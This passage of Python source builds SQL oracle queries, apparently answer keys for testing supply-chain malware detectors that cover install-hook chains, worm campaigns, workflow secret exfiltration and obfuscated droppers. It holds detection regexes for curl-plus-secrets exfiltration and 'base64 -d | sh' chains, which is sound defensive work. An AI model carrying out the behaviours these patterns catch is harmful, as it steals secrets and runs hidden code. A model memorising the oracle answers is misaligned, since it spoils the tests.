s AS (SELECT package, bool_or({has('c', *C.HOOK_CODE)}) AS code, {', '.join(f"bool_or({has('c', p)}) AS {n}" for n, p in C.PLANTED.items())} FROM texts GROUP BY package),
q AS (SELECT *, list_filter([CASE WHEN services OR temp THEN 'linux' END, CASE WHEN launchd OR temp THEN 'macos' END, CASE WHEN powershell OR loads OR injects OR temp THEN 'windows' END], lambda x: x IS NOT NULL) AS on_ FROM s WHERE code AND drops)
SELECT p.package, p.version, CASE WHEN len(on_) >= 2 AND calls THEN 'cross_platform_rat' WHEN calls THEN 'network_backdoor' ELSE 'platform_persistence' END AS payload, array_to_string(on_, ',') AS platforms
FROM q JOIN packages p USING (package) WHERE calls OR len(on_) > 0""",
    "bad_host_tiers": f"""WITH r AS (SELECT l_orderkey AS o, row_number() OVER (PARTITION BY l_orderkey ORDER BY l_linenumber, t) AS line, t FROM (SELECT l_orderkey, l_linenumber, {pick_sql(TIER_LINES, 'l_partkey * 7 + l_suppkey')} AS t FROM lineitem)),
pin AS (SELECT o FROM (SELECT o, arg_min(t, line) AS t FROM r WHERE starts_with(t, 'starlette') GROUP BY o) WHERE t = 'starlette>=1.0.2'),
safe AS (SELECT o FROM (SELECT o, arg_min(t, line) AS t FROM r WHERE starts_with(t, 'fastapi==') GROUP BY o) WHERE t = 'fastapi==0.116.1'),
k AS (SELECT o, line, CASE WHEN starts_with(t, 'fastapi') THEN 'fastapi' WHEN t = 'vllm==0.1' THEN 'vllm' WHEN t = 'ray-serve' THEN t WHEN t = 'mcp' THEN t WHEN t = 'langserve>=1' THEN 'langserve' END AS name FROM r),
z AS (SELECT *, CASE WHEN name IN ('mcp', 'langserve') THEN 2 ELSE 1 END AS tier FROM k WHERE name IS NOT NULL AND o NOT IN (SELECT o FROM pin) AND NOT (name = 'fastapi' AND o IN (SELECT o FROM safe)))
SELECT CAST(o AS VARCHAR) AS project, arg_min(name, tier * 1000 + line) AS package, min(tier) AS tier FROM z GROUP BY o""",
    "extension_campaign": f"""WITH f AS (SELECT l_orderkey AS x, (l_partkey * 3 + l_suppkey * 7 + l_linenumber * 11) % {len(EXTENSION_CODE)} AS k FROM lineitem),
e AS (SELECT x, 'orphan_commit' AS s FROM f WHERE k IN (0, 1, 2, 4) UNION SELECT x, 'exfiltration' FROM f WHERE k BETWEEN 5 AND 8
  UNION SELECT o_orderkey, 'activation' FROM orders WHERE o_custkey % {len(RISK_EVENTS)} IN (0, 1, 3, 5, 6) UNION SELECT o_orderkey, 'burst' FROM orders WHERE o_custkey % 17 = 0 UNION SELECT o_orderkey, 'known_ioc' FROM orders WHERE o_custkey % 29 = 0)
SELECT x AS extension, string_agg(s, ',' ORDER BY s) AS signals, CASE WHEN bool_or(s IN ('orphan_commit', 'known_ioc')) THEN 'critical' ELSE 'high' END AS severity FROM e GROUP BY x""",
    "workflow_exfiltration": f"""WITH t AS (SELECT l_orderkey AS o, l_linenumber AS n, CASE WHEN l_linenumber % 3 = 0 THEN 'deploy' ELSE 'build' END AS job, {pick_sql(RUNS, 'l_partkey')} AS run, {pick_sql(ENVS, 'l_suppkey')} AS env FROM lineitem),
u AS (SELECT 'r' || coalesce(CAST(o AS VARCHAR), '') || '/.github/workflows/ci.yml' AS path, job, row_number() OVER (PARTITION BY o, job ORDER BY n NULLS FIRST, run NULLS FIRST, env NULLS FIRST) AS step,
    run || CASE WHEN job = 'deploy' AND o % 4 = 0 THEN ' ${{{{ secrets.NPM }}}}' ELSE '' END || coalesce(' ' || env, '') AS r FROM t
  UNION ALL SELECT 'r' || CAST(o AS VARCHAR) || '/.github/workflows/old.yaml', NULL, row_number() OVER (PARTITION BY o ORDER BY job, n NULLS FIRST, run, env NULLS FIRST) - 1, run FROM t WHERE o % 11 = 5 AND run IS NOT NULL),
k AS (SELECT path, job, CAST(step AS INT) AS step, regexp_matches(regexp_replace(r, '(?i)https?://(github\\.com|githubusercontent\\.com|raw\\.githubusercontent\\.com)', 'x', 'g'), '(?i)curl\\s+.*?https?://[^\\s''"]+') AND regexp_matches(r, '\\$\\{{\\{{?\\s*secrets\\.\\w+') AS a,
  regexp_matches(r, 'base64\\s+-d\\s*[|>]\\s*(ba)?sh') AS b FROM u)
SELECT path, job, step, 'secret_exfiltration' AS kind FROM k WHERE a UNION ALL SELECT path, job, step, 'decode_chain' FROM k WHERE b""",
    "spoofed_orgs": f"""WITH m AS ({PACKAGE_SQL['model_references']}), o AS (SELECT *, unnest(['google', 'openai']) AS target FROM m WHERE lower(org) NOT IN ('google', 'openai'))
SELECT package, org, model, arg_max(target, jaro_winkler_similarity(lower(org), target)) AS target, round(max(jaro_winkler_similarity(lower(org), target)), 4) AS score FROM o GROUP BY 1, 2, 3 HAVING max(jaro_winkler_similarity(lower(org), target)) >= 0.82""",
    "activation_risk": f"""WITH v AS (SELECT CAST(o_custkey AS VARCHAR) AS extension, lpad(CAST(o_orderkey AS VARCHAR), 9, '0') AS version, o_orderdate AS born, o_orderkey * 7919 % 500000 AS size,
    CASE WHEN o_orderkey % 11 <> 0 THEN list_distinct([{pick_sql(RISK_EVENTS, 'o_orderkey')}, {pick_sql(RISK_EVENTS, 'o_orderkey // 7 + o_custkey')}]) ELSE [] END AS ev,
    o_orderkey % 5 = 0 AND o_custkey % 4 IN (1, 2) AS titled, o_orderkey % 13 = 0 AND o_custkey % 4 IN (0, 2) AS bundled FROM orders),
e AS (SELECT extension, version, born, unnest(ev) AS ev FROM v), f AS (SELECT *, row_number() OVER (PARTITION BY extension, ev ORDER BY born, version) = 1 AS new FROM e),
n AS (SELECT extension, version, bool_or(new) AS fresh FROM f GROUP BY 1, 2),
w AS (SELECT v.*, row_number() OVER o AS no, max(size) OVER o - min(size) OVER o > 409600 AS jump, coalesce(sum(len(ev)) OVER (PARTITION BY extension ORDER BY born, version ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) > 0 AS had
  FROM v WINDOW o AS (PARTITION BY extension ORDER BY born, version)),
r AS (SELECT w.*, had AND no > 1 AND coalesce(fresh, false) AS fresh, titled OR bundled OR list_contains(ev, 'onCommand:npx') AS words,
  list_max(list_transform(ev, lambda x: CASE WHEN x = '*' THEN 5 WHEN x IN ('onStartupFinished', 'workspaceContains') THEN 4 WHEN x = 'onCommand:*' THEN 2 WHEN contains(x, '*') THEN 4 ELSE 0 END)) AS worst FROM w LEFT JOIN n USING (extension, version))
SELECT extension, version, CASE WHEN words OR jump OR (fresh AND worst >= 4) THEN 'critical' ELSE ['info', 'low', 'medium', 'high', 'critical'][worst] END AS risk,
  concat_ws(',', CASE WHEN words THEN 'execution_words' END, CASE WHEN jump THEN 'size_jump' END, CASE WHEN fresh THEN 'first_event' END) AS why FROM r WHERE worst > 0""",
    "lockfile_npm": """SELECT 'o' || CAST(l_orderkey AS VARCHAR) || '/package-lock.json' AS path, CASE WHEN l_linenumber % 3 = 0 THEN '@s/' ELSE '' END || 'p' || CAST(l_partkey AS VARCHAR) || '-' || CAST(l_linenumber AS VARCHAR) AS name,
  '1.' || CAST(l_linenumber AS VARCHAR) || '.0' AS version, 'sha512-' || CAST(l_partkey AS VARCHAR) AS integrity, l_linenumber % 2 = 0 AS dev, l_quantity > 25 AS optional FROM lineitem""",
    "lockfile_totals": """SELECT 'o' || CAST(l_orderkey AS VARCHAR) || '/package-lock.json' AS path, count(*) AS total, count(*) FILTER (l_linenumber % 2 = 0) AS dev, count(*) FILTER (l_quantity > 25) AS optional FROM lineitem GROUP BY 1""",
    "lockfile_graph": """WITH p AS (SELECT 'o' || CAST(l_orderkey AS VARCHAR) || '/package-lock.json' AS path, CASE WHEN l_linenumber % 3 = 0 THEN '@s/' ELSE '' END || 'p' || CAST(l_partkey AS VARCHAR) || '-' || CAST(l_linenumber AS VARCHAR) AS name, l_partkey, l_suppkey FROM lineitem)
SELECT path, name, 'high' AS severity FROM p WHERE l_partkey % 5 = 0 UNION ALL SELECT path, name, 'medium' FROM p WHERE l_suppkey % 3 = 0 UNION ALL SELECT path, name, 'low' FROM p WHERE l_partkey % 7 = 0""",
    "lockfile_yarn": """SELECT 'o' || CAST(l_orderkey AS VARCHAR) || '/yarn.lock' AS path, CASE WHEN l_linenumber % 2 = 0 THEN '@s/' ELSE '' END || 'p' || CAST(l_partkey AS VARCHAR) || '-' || CAST(l_linenumber AS VARCHAR) AS name,
  '1.' || CAST(l_linenumber AS VARCHAR) || '.0' AS version, 'https://registry.npmjs.org/p' || CAST(l_partkey AS VARCHAR) AS resolved, CASE WHEN l_suppkey % 2 = 0 THEN 'sha512-' || CAST(l_suppkey AS VARCHAR) END AS integrity FROM lineitem""",
    "python_requirements": f"""WITH r AS (SELECT 'o' || CAST(l_orderkey AS VARCHAR) || '/requirements.txt' AS path, (l_partkey + l_linenumber) % {len(REQUIREMENTS)} AS k FROM lineitem)
SELECT path, ['starlette', 'starlette', 'flask', NULL, NULL, 'uvicorn', 'starlette', 'django'][k + 1] AS name, ['==', '>=', NULL, NULL, NULL, '~=', NULL, '!='][k + 1] AS operator,
  ['0.9.1', '1.0.1', NULL, NULL, NULL, '0.2', NULL, '3.0'][k + 1] AS version FROM r WHERE k NOT IN (3, 4)""",
    "bad_host_requirements": f"""WITH r AS (SELECT 'o' || CAST(l_orderkey AS VARCHAR) || '/requirements.txt' AS path, (l_partkey + l_linenumber) % {len(REQUIREMENTS)} AS k FROM lineitem)
SELECT path, CASE WHEN k = 0 THEN '0.9.1' END AS version, CASE WHEN k = 0 THEN 'unsafe' ELSE 'unpinned' END AS kind FROM r WHERE k IN (0, 6)""",
    "ioc_rows": f"""WITH i AS (SELECT CASE WHEN l_linenumber % 2 = 0 THEN 'w' || CAST(l_orderkey % 3 AS VARCHAR) END AS wave, {pick_sql(IOC_TYPES, 'l_linenumber')} AS type, 'v' || CAST(l_partkey AS VARCHAR) AS value,
  CASE WHEN l_suppkey % 2 = 0 THEN '1.' || CAST(l_linenumber AS VARCHAR) ELSE '' END AS malicious_versions FROM lineitem)
SELECT wave, type, value, malicious_versions, count(*) AS lists FROM i GROUP BY ALL""",
    "severity_ladders": f"""WITH f AS (SELECT l_orderkey, l_linenumber, {pick_sql([*LADDER_NAMES, 'UNLISTED'], 'l_partkey')} AS detector, CAST(l_quantity * 2 + 1 AS INT) AS score FROM lineitem),
l(detector, min_score, severity) AS (VALUES {', '.join(f"('{n}', {m}, '{v}')" for n, steps in P.LADDERS.items() for m, v in steps)})
SELECT f.l_orderkey, f.l_linenumber, f.detector, f.score, l.severity FROM f ASOF LEFT JOIN l ON f.detector = l.detector AND f.score >= l.min_score""",
}

_CAN = "list_filter([" + ", ".join(f"CASE WHEN {has('{0}', p)} THEN '{n}' END" for n, p in P.CAPABILITIES.items()) + "], lambda c: c IS NOT NULL)"
_HOOK_LIST = ", ".join(f"'{h}'" for h in [*P.INSTALL_SCRIPTS, "prepublish"])

ORACLE["capability_desync"] = WITH + f""", own AS (SELECT package, regexp_replace(path, '^f\\d/', '') AS path, arg_min(content, id) AS c FROM files GROUP BY 1, 2),
tree AS (SELECT package, regexp_replace(path, '^f\\d/', '') AS path, arg_min(CASE WHEN id % 3 = 0 THEN regexp_replace(content, '\\b(fetch|exec|execSync|spawn|eval)\\s*\\(', 'call(', 'g') WHEN id % 7 = 0 THEN content || '!' ELSE content END, id) AS sc
  FROM files WHERE id % 5 <> 0 AND length(package) % 4 <> 1 GROUP BY 1, 2),
runs AS (SELECT package, regexp_replace(unnest(regexp_extract_all(body, {sql(P.RUNS_FILE)}, 1)), '^\\./', '') AS path FROM hooks WHERE hook IN ({_HOOK_LIST}) UNION SELECT package, 'lib/util.js' FROM packages WHERE id % 4 = 0),
j AS (SELECT o.package, o.path, r.path IS NOT NULL AS run, t.sc IS NULL AS absent, regexp_replace(o.c, '[ \\t]+(\\n|$)', '\\1', 'g') = regexp_replace(t.sc, '[ \\t]+(\\n|$)', '\\1', 'g') AS same, {_CAN.replace('{0}', 'o.c')} AS can, {_CAN.replace('{0}', 't.sc')} AS could
  FROM own o LEFT JOIN runs r USING (package, path) LEFT JOIN tree t USING (package, path)
  WHERE (r.path IS NOT NULL OR regexp_matches(o.path, {sql(P.SCRIPT)})) AND NOT regexp_matches(o.path, {sql(P.BUILT)}) AND NOT regexp_matches(o.path, {sql(P.NOT_COMPARED)})),
g AS (SELECT *, CASE WHEN absent THEN can ELSE list_filter(can, lambda x: NOT list_contains(could, x)) END AS gained FROM j),
k AS (SELECT package, gained, CASE WHEN absent AND (run OR len(can) > 0) THEN 'absent_from_source' WHEN absent OR same THEN NULL WHEN len(gained) > 0 THEN 'sensitive_nodes_added' WHEN run THEN 'executable_modified' END AS kind FROM g),
h AS (SELECT package, bool_or(kind <> 'executable_modified') AS critical, string_agg(DISTINCT kind, ',' ORDER BY kind) AS kinds, coalesce(array_to_string(list_sort(list_distinct(flatten(list(gained)))), ','), '') AS caps FROM k WHERE kind IS NOT NULL GROUP BY package),
a AS (SELECT DISTINCT package FROM packages WHERE package IN (SELECT package FROM own)), t AS (SELECT DISTINCT package FROM tree)
SELECT a.package, CASE WHEN t.package IS NULL THEN 15 WHEN critical THEN 95 ELSE 75 END AS score, CASE WHEN t.package IS NULL THEN 'low' WHEN critical THEN 'critical' ELSE 'high' END AS severity,
  CASE WHEN t.package IS NULL THEN 'unverifiable' ELSE 'desync' END AS status, CASE WHEN t.package IS NULL THEN '' ELSE kinds END AS kinds, CASE WHEN t.package IS NULL THEN '' ELSE caps END AS capabilities
FROM a LEFT JOIN t USING (package) LEFT JOIN h USING (package) WHERE t.package IS NULL OR kinds IS NOT NULL"""

_LIFE = ", ".join(f"'{h}'" for h in P.LIFECYCLE)
_TEST = {k: has("content", p) for k, p in (("e", P.EVALUATES), ("n", P.CONNECTS), ("u", P.ADDRESSES), ("v", P.ENV_SECRETS), ("r", P.READS), ("i", P.IDENTITIES))}
ORACLE["hook_chains"] = WITH + f""", act AS (SELECT package, 'postinstall' AS hook, {pick_sql(HANDED, 'id // 2')} AS body FROM packages WHERE id % 2 = 0
  UNION ALL SELECT h.package, h.hook, h.body FROM hooks h JOIN packages p USING (package) WHERE p.id % 2 = 1),
one AS (SELECT package, path, arg_min(content, id) AS content FROM files GROUP BY 1, 2),
t AS (SELECT *, {obfuscated_sql('content')} AS o, {', '.join(f'{v} AS {k}' for k, v in _TEST.items())}, {has('content', PAAS, P.HANDED_HOST)} AS paas FROM one),
b AS (SELECT *, CASE WHEN e OR (o AND n) OR v THEN 90 WHEN r AND i AND n THEN 85 WHEN r AND i THEN 75 WHEN u THEN 70 WHEN n THEN 65 ELSE 0 END AS plain,
  CASE WHEN e OR (o AND n) OR v THEN 'critical' WHEN (r AND i) OR u THEN 'high' ELSE 'medium' END AS level FROM t),
s AS (SELECT package, path, content, level, CASE WHEN plain > 0 AND paas THEN least(100, plain + 15) ELSE plain END AS base FROM b),
h AS (SELECT package, hook, regexp_extract(body, '^\\s*(?:node|sh|bash)\\s+([^\\s;&|]+)\\s*$', 1) AS named FROM act WHERE hook IN ({_LIFE}) OR hook LIKE 'pre%' OR hook LIKE 'post%'),
m AS (SELECT h.package, hook, named, min(s.path) AS path FROM h JOIN s ON s.package = h.package AND (s.path = regexp_replace(named, '^\\.?/', '') OR ends_with(s.path, '/' || regexp_replace(named, '^\\.?/', ''))) WHERE named <> '' GROUP BY 1, 2, 3),
f AS (SELECT m.*, s.content, s.base, s.level FROM m JOIN s USING (package, path) WHERE base > 0),
need AS (SELECT DISTINCT package, hook, path, regexp_replace(unnest({' || '.join(f"regexp_extract_all(content, {sql(p)}, 1)" for p in P.NAMES_FILES)}), '^\\.?/', '') AS name FROM f),
far AS (SELECT n.package, n.hook, n.path, n.name, min(s.path) AS there FROM need n JOIN s ON s.package = n.package AND (s.path = n.name OR ends_with(s.path, '/' || n.name)) GROUP BY 1, 2, 3, 4),
on_ AS (SELECT r.package, r.hook, r.path, string_agg(r.name, '>' ORDER BY r.name) AS names, max(s.base) AS next FROM far r JOIN s ON s.package = r.package AND s.path = r.there WHERE s.base > 0 GROUP BY 1, 2, 3)
SELECT f.package, f.hook, f.path, greatest(50, base) AS score, level AS severity, concat_ws('>', named, names) AS chain, greatest(base, coalesce(next, 0)) AS worst FROM f LEFT JOIN on_ USING (package, hook, path)"""

ORACLE["worm_campaign"] = f"""WITH v AS (SELECT {sql_list(SCOPES)}[o_custkey % 4 + 1] || CAST(o_custkey AS VARCHAR) AS package, CAST(o_orderkey AS VARCHAR) AS version, o_orderkey AS o,
    (o_orderkey * 37) % 2000 * 60000 AS p, {pick_sql(BODIES, 'o_orderkey')} AS body FROM orders),
a AS (SELECT package, version, p + ((o * 13) % 200 - 20) * 1000 AS t, p, o // 4 % 3 = 1 AS odd FROM v WHERE o % 4 <> 2),
burst AS (SELECT DISTINCT package FROM (SELECT package, count(*) OVER (PARTITION BY package ORDER BY p RANGE BETWEEN CURRENT ROW AND 7200000 FOLLOWING) AS n FROM v) WHERE n >= 3),
seen AS (SELECT v.package, v.version, v.o % 4 <> 2 AS att, lag(v.version) OVER w AS b1, lag(v.o % 4 <> 2) OVER w AS n1, lag(v.o % 4 <> 2, 2) OVER w AS n2 FROM v WINDOW w AS (PARTITION BY v.package ORDER BY p, version)),
d3 AS (SELECT package, version FROM seen WHERE att AND b1 IS NOT NULL AND NOT n1 AND NOT coalesce(n2, false) UNION SELECT package, version FROM a WHERE t - p BETWEEN 0 AND 59999 OR odd),
c AS (SELECT {sql_list(SCOPES)}[c_custkey % 4 + 1] || CAST(c_custkey AS VARCHAR) AS package, c_custkey AS k FROM customer),
r AS (SELECT v.package, v.version, v.o, b.package IS NOT NULL AS d1, b.package IS NOT NULL AND s.package IS NOT NULL AS d2, b.package IS NOT NULL AND d3.version IS NOT NULL AS d3, m.package IS NOT NULL AS d4, v.o % 31 = 0 AS d5,
    list_contains({sql_list(HOOKED_EXFIL)}, body) AS d6, v.o % 19 = 0 AS d7
  FROM v LEFT JOIN burst b USING (package) LEFT JOIN (SELECT package FROM c WHERE k % 3 = 0) s USING (package) LEFT JOIN d3 ON d3.package = v.package AND d3.version = v.version LEFT JOIN (SELECT package FROM c WHERE k % 11 = 0) m ON m.package = v.package)
SELECT package, version, concat_ws(',', CASE WHEN d1 THEN 'D1' END, CASE WHEN d2 THEN 'D2' END, CASE WHEN d3 THEN 'D3' END, CASE WHEN d4 THEN 'D4' END, CASE WHEN d5 THEN 'D5' END, CASE WHEN d6 THEN 'D6' END, CASE WHEN d7 THEN 'D7' END) AS rules,
  CASE WHEN d3 OR d5 OR d7 THEN 'critical' ELSE 'high' END AS severity,
  CASE WHEN starts_with(package, '@tanstack') THEN 'wave1' WHEN starts_with(package, '@antv') THEN 'wave2' WHEN d7 THEN 'wave3' WHEN d5 THEN 'wave' || CAST(o % 3 + 1 AS VARCHAR) ELSE 'unknown' END AS wave
FROM r WHERE d1 OR d2 OR d3 OR d4 OR d5 OR d6 OR d7"""


def _weights(detector, column: str) -> tuple[str, str]:
    """SQL: the summed weights of a detector's matches, and the names of signals that matched."""
    total = " + ".join(f"{w} * {count(column, *ps)}" for w, ps in detector.signals.values())
    return total, "list_filter([" + ", ".join(f"CASE WHEN {count(column, *ps)} > 0 THEN '{n}' END" for n, (_, ps) in detector.signals.items()) + "], lambda x: x IS NOT NULL)"


_G, _B, _S = (_weights(d, "content") for d in BUILD_FILES.values())
_GL = f"len(list_filter(string_split(content, chr(10)), lambda l: regexp_matches(l, '<!\\([^)]*\\)')))"
_GF = f"len(regexp_extract_all(content, {sql(_LINKER)}))"
ORACLE["build_abuse"] = WITH + f""", own AS (SELECT package, CASE WHEN id % 17 = 0 THEN 'x/addon.node' ELSE path END AS path, content, size * 400000 AS size, id FROM files),
gyp AS (SELECT package, {pick_sql(GYP_LINES, 'id')} || chr(10) || {pick_sql(GYP_LINES, 'id // 3')} AS content FROM (SELECT package, min(id) AS id FROM own GROUP BY package) WHERE id % 3 <> 2),
m AS (SELECT p.package, CASE WHEN p.id % 3 = 0 THEN 'install' END AS fixed, CASE WHEN p.id % 3 = 0 THEN {pick_sql(["node-gyp rebuild", "node-pre-gyp install", "make"], "p.id // 3")} END AS install, p.id % 5 = 0 AS gypfile FROM packages p),
dec AS (SELECT package, gypfile OR coalesce(install, '') LIKE '%node-gyp%' OR coalesce(install, '') LIKE '%node-pre-gyp%' AS declared, coalesce(install, '') LIKE '%node-gyp rebuild%' AS rebuilds FROM m),
e AS (SELECT package, {_G[0]} AS raw, {_G[1]} AS s FROM gyp UNION ALL SELECT package, {SHELL_ROW} * {_GL}, CASE WHEN {_GL} > 0 THEN ['gyp_shell_exec'] ELSE [] END FROM gyp
  UNION ALL SELECT package, {LINKER_ROW} * {_GF}, CASE WHEN {_GF} > 0 THEN ['linker_flag'] ELSE [] END FROM gyp
  UNION ALL SELECT package, {_B[0]}, {_B[1]} FROM own WHERE regexp_matches(path, '(?i)(\\.mk|makefile|cmakelists\\.txt|configure|\\.cmake)$') AND path NOT LIKE '%binding.gyp'
  UNION ALL SELECT package, {_S[0]}, {_S[1]} FROM own WHERE regexp_matches(path, '(?i)\\.(c|cc|cpp|cxx|h|hpp)$')
  UNION ALL SELECT package, 30, ['large_addon'] FROM own WHERE path = 'x/addon.node' AND size > 10485760
  UNION ALL SELECT g.package, 20, ['gyp_present'] FROM gyp g LEFT JOIN dec USING (package) WHERE NOT coalesce(declared, false)
  UNION ALL SELECT g.package, 45, ['undeclared_gyp'] FROM gyp g JOIN dec USING (package) WHERE NOT declared),
t AS (SELECT package, sum(raw) AS raw, list_sort(list_distinct(flatten(list(s)))) AS s FROM e GROUP BY package HAVING sum(raw) > 0),
z AS (SELECT t.*, coalesce(d.rebuilds, false) AND g.package IS NOT NULL AND (list_has_any(s, ['shell_exec', 'makefile_shell_exec', 'compile_macro_injection', 'gyp_shell_exec'])) AS armed FROM t LEFT JOIN dec d USING (package) LEFT JOIN gyp g USING (package)),
y AS (SELECT package, CAST(least(100, raw + CASE WHEN armed THEN 99 ELSE 0 END) AS INT) AS score, array_to_string(list_sort(CASE WHEN armed THEN list_append(s, 'rebuilt_by_hook') ELSE s END), ',') AS signals FROM z)
SELECT package, score, CASE WHEN score >= 70 THEN 'critical' WHEN score >= 50 THEN 'high' WHEN score >= 30 THEN 'medium' ELSE 'low' END AS severity, signals FROM y"""

_SENT = f"""WITH t AS (SELECT 'r' || CAST(l_orderkey AS VARCHAR) || '/.github/workflows/ci.yml' AS path, {pick_sql(RUNS, 'l_partkey')} || ' ' || {pick_sql(ENVS, 'l_suppkey')} AS r FROM lineitem),
k AS (SELECT path, regexp_matches(regexp_replace(r, '(?i)https?://(github\\.com|githubusercontent\\.com|raw\\.githubusercontent\\.com)', 'x', 'g'), '(?i)curl\\s+.*?https?://[^\\s''"]+') AND regexp_matches(r, '\\$\\{{\\{{?\\s*secrets\\.\\w+') AS a,
  regexp_matches(r, 'base64\\s+-d\\s*[|>]\\s*(ba)?sh') AS b FROM t)
SELECT DISTINCT path, 'secret_exfiltration' AS kind FROM k WHERE a UNION ALL SELECT DISTINCT path, 'decode_chain' FROM k WHERE b"""
ORACLE["workflow_campaign"] = f"""WITH x AS ({_SENT}), o AS (SELECT o_orderkey, o_custkey AS package, (o_orderkey * 37) % 2000 AS m FROM orders),
e AS (SELECT package, kind AS s FROM x JOIN o ON o_orderkey = CAST(regexp_extract(path, '^r(\\d+)/', 1) AS BIGINT)
  UNION SELECT package, 'publish_velocity' FROM (SELECT package, count(*) OVER (PARTITION BY package ORDER BY m RANGE BETWEEN CURRENT ROW AND 60 FOLLOWING) AS n FROM o) WHERE n >= 3
  UNION SELECT c_custkey, 'publisher_drift' FROM customer WHERE c_custkey % 23 = 0)
SELECT package, string_agg(s, ',' ORDER BY s) AS signals, 'critical' AS severity FROM e GROUP BY package"""

_JS_TOKEN = r"""//[^\n]*|/\*[\s\S]*?\*/|'(?:[^'\\\n]|\\.)*'|"(?:[^"\\\n]|\\.)*"|`(?:[^`\\]|\\[\s\S])*`|[A-Za-z_$][\w$]*|\d[\w.]*|=>|[=!]==?|[-+*/%&|^<>]=|\n|[ \t\r]+|\S"""


def _flow_sql(where: str) -> str:
    """Statements with their own marks and those that reach them, as table `flows` behind the last comma."""
    marks = ", ".join(f"CASE WHEN {has('text', p)} THEN '{n}' END" for n, p in X.FLOW_MARKS.items())
    return WITH.replace("WITH packages", "WITH RECURSIVE packages", 1) + f""", t0 AS (SELECT id, unnest(regexp_extract_all(content, {sql(_JS_TOKEN)})) AS token, generate_subscripts(regexp_extract_all(content, {sql(_JS_TOKEN)}), 1) AS pos FROM files WHERE {where}),
t1 AS (SELECT *, CASE WHEN token IN ('{{', '[', '(') THEN 1 WHEN token IN ('}}', ']', ')') THEN -1 ELSE 0 END AS step, CASE token WHEN '{{' THEN 1 WHEN '}}' THEN -1 ELSE 0 END AS curly FROM t0),
t2 AS (SELECT *, coalesce(sum(step) OVER b, 0) - (step = -1)::INT AS depth, coalesce(sum(curly) OVER b, 0) - (token = '}}')::INT AS blocks, 1 + coalesce(sum(length(token) - length(replace(token, chr(10), ''))) OVER b, 0) AS line
  FROM t1 WINDOW b AS (PARTITION BY id ORDER BY pos ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING)),
t3 AS (SELECT *, coalesce(sum((token = ';' OR (token IN ('{{', '}}', chr(10)) AND depth = blocks))::INT) OVER (PARTITION BY id ORDER BY pos ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS stmt FROM t2),
t AS (SELECT *, lead(token) OVER w AS n1, lead(token, 2) OVER w AS n2, lag(token) OVER w AS p1, lag(token, 2) OVER w AS p2, lead(pos) OVER w AS a1, lead(pos, 2) OVER w AS a2 FROM t3 WHERE NOT regexp_matches(token, '^(\\s|//|/\\*)') WINDOW w AS (PARTITION BY id ORDER BY pos)),
r AS (SELECT id, pos, token, n1, CASE WHEN n1 = '{{' THEN a1 WHEN n2 = '{{' THEN a2 END AS body, lag(pos) OVER w AS began, lag(token = '(' AND (p1 = 'function' OR p2 = 'function')) OVER w AS named, lag(token) OVER w AS opener FROM t WHERE token IN ('(', ')') WINDOW w AS (PARTITION BY id, depth ORDER BY pos)),
lists AS (SELECT id, began, pos AS until, body FROM r WHERE token = ')' AND ((n1 = '=>' AND opener = '(') OR named)),
w0 AS (SELECT *, CASE WHEN n1 = '=>' AND n2 = '{{' THEN a2 END AS alone FROM t WHERE regexp_matches(token, '^[A-Za-z_$]') AND p1 IS DISTINCT FROM '.'),
words AS (SELECT w.id, w.pos, w.token, w.stmt, w.blocks, coalesce(w.n1 IN ('=', '=>'), false) OR coalesce(w.pos < l.until, false) AS sets, coalesce(CASE WHEN w.pos < l.until THEN l.body END, w.alone) AS body FROM w0 w ASOF LEFT JOIN lists l ON w.id = l.id AND w.pos > l.began),
opens AS (SELECT id, pos, blocks AS level FROM t WHERE token = '{{'),
placed AS (SELECT w.id, w.pos, o.level, max(o.pos) AS block FROM words w JOIN opens o ON o.id = w.id AND o.pos < w.pos AND o.level < w.blocks GROUP BY ALL UNION ALL SELECT id, pos, -1, -1 FROM words),
defs AS (SELECT w.id, w.token, coalesce(w.body, p.block) AS block, w.pos, w.stmt FROM words w JOIN placed p USING (id, pos) WHERE sets AND p.level = w.blocks - 1),
uses AS (SELECT w.id, w.pos, w.stmt, arg_max(d.stmt, (p.level, d.pos)) AS source FROM words w JOIN placed p USING (id, pos) JOIN defs d ON d.id = w.id AND d.token = w.token AND d.block = p.block AND d.pos < w.pos WHERE NOT sets GROUP BY ALL),
edges AS (SELECT DISTINCT id, source, stmt FROM uses WHERE source <> stmt),
st AS (SELECT id, stmt, min(line) AS line, string_agg(token, ' ' ORDER BY pos) AS text FROM t GROUP BY id, stmt),
m AS (SELECT *, list_filter([{marks}], lambda x: x IS NOT NULL) AS marks FROM st),
reach(id, mark, stmt) AS (SELECT id, unnest(marks), stmt FROM m UNION SELECT e.id, reach.mark, e.stmt FROM reach JOIN edges e ON e.id = reach.id AND e.source = reach.stmt),
flows AS (SELECT m.id, m.stmt, m.line, m.text, m.marks, list_sort(list(reach.mark)) AS reached FROM m JOIN reach ON reach.id = m.id AND reach.stmt = m.stmt GROUP BY ALL)
"""


_FACTS = {
    "dns_payload_assembly": "m('sink') AND r('txt') AND r('decoder')", "encoded_string_array": "m('array') AND dense", "dns_txt_oob": "m('txt')", "string_array_decoder": "m('decoder') AND r('array')",
    "fingerprint_network_coupling": "m('network') AND r('fingerprint')", "env_fingerprint": "m('fingerprint')",
}
_FLAGS = ", ".join(f"bool_or({e.replace('m(', 'list_contains(marks, ').replace('r(', 'list_contains(reached, ')}) AS {n}" for n, e in _FACTS.items())
_IN_ORDER = [n for n in X.DROPPER if n in _FACTS]
ORACLE["value_flows"] = _flow_sql(f"regexp_matches(path, {sql(D.SCRIPTED)})") + "SELECT id, CAST(stmt AS INT) AS stmt, CAST(line AS INT) AS line, array_to_string(marks, ',') AS marks, array_to_string(reached, ',') AS reached FROM flows"
ORACLE["dropper_flows"] = _flow_sql(f"regexp_matches(path, '\\.(js|mjs|cjs)$') AND {has('content', X._MARKER)}") + f""",
d AS (SELECT f.*, len(regexp_extract_all(text, '[''"](?:[0-9a-fA-F]{{2}}){{3,}}[''"]')) >= 0.8 * len(regexp_extract_all(text, '[''"][^''"\\n]*[''"]')) AND len(regexp_extract_all(text, '[''"][^''"\\n]*[''"]')) >= 8 AS dense FROM flows f),
g AS (SELECT package, {_FLAGS} FROM d JOIN files USING (id) GROUP BY package),
